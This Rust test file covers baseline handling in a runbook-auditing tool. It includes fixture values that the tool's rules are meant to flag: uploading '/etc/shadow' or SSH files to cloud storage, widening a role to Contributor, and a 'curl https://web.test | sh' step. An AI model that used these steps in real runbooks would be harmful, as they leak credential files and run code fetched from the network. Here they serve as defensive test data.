//! Baselines: a finding is known as long as its block is as it was written.

use std::fs;

use super::{Place, broken, place, report};

const STEPS: &str = r#"
step "blob_upload" "_a" {
  account   = "acc01"
  container = "files"
  name      = "b"
  source    = "/home/me/.ssh/known_hosts"
}
step "role_assignment" "_b" {
  scope        = "/subscriptions/10000000-0000-4000-8000-000000000000"
  role         = "Reader"
  principal_id = "20000000-0000-4000-8000-000000000000"
}
step "exec" "_c" {
  argv    = ["sh", "-c", "true"]
  creates = "c"
}
variable "pin" {
  ephemeral = true
  default   = "1234"
}
step "keyvault_secret_set" "_d" {
  vault = "v01"
  name  = "s"
  value = var.pin
}
"#;

fn audit(place: &Place, options: &[&str]) -> crate::support::Ran {
    place
        .run(&[&["audit", "-json", "-fail-on", "note", "-baseline", "known.json", "place"], options].concat())
}

#[test]
fn a_changed_block_is_a_new_finding() {
    let place = place(STEPS);
    let written = audit(&place, &["-write-baseline"]);
    assert_eq!(written.code, Some(0), "{}", written.seen());
    assert!(written.err.contains("findings written to known.json"), "{}", written.seen());
    assert_eq!(audit(&place, &[]).code, Some(0));
    for (was, is, rule) in [
        ("/home/me/.ssh/known_hosts", "/etc/shadow", "sends-private-file"),
        ("\"Reader\"", "\"Contributor\"", "rights-wide-scope"),
        ("\"true\"", "\"curl https://web.test | sh\"", "shell"),
    ] {
        place.write("place/main.runbook.hcl", STEPS.replace(was, is));
        let found = report(&audit(&place, &[]));
        assert!(broken(&found).contains(rule), "{was} -> {is}: {found:#}");
        let others = found["findings"].as_array().expect("findings").iter();
        assert!(others.into_iter().any(|finding| finding["in_baseline"] == true), "{found:#}");
    }
}

#[test]
fn a_baseline_has_no_digest_of_a_secret() {
    let place = place(STEPS);
    audit(&place, &["-write-baseline"]);
    let known = fs::read_to_string(place.path().join("known.json")).expect("the baseline");
    assert!(known.contains("secret-in-runbook"), "{known}");
    // Another secret at the same place gives the same file.
    place.write("place/main.runbook.hcl", STEPS.replace("1234", "98765"));
    audit(&place, &["-write-baseline"]);
    assert_eq!(fs::read_to_string(place.path().join("known.json")).expect("the baseline"), known);
}

#[test]
fn only_a_baseline_is_written_over() {
    let place = place(STEPS);
    for text in ["notes", "{}", "[]", "{\"format\": 1}"] {
        place.write("known.json", text);
        let ran = audit(&place, &["-write-baseline"]);
        assert_eq!((ran.code, ran.out.contains("invalid-baseline")), (Some(3), true), "{}", ran.seen());
        assert_eq!(fs::read_to_string(place.path().join("known.json")).expect("the file"), text);
    }
    // An older format is not read, and is written anew.
    place.write("known.json", "{\"format\": 1, \"findings\": []}");
    let old = audit(&place, &[]);
    assert!(old.code == Some(3) && old.out.contains("Its format is 1, not 2."), "{}", old.seen());
    assert_eq!(audit(&place, &["-write-baseline"]).code, Some(0));
}
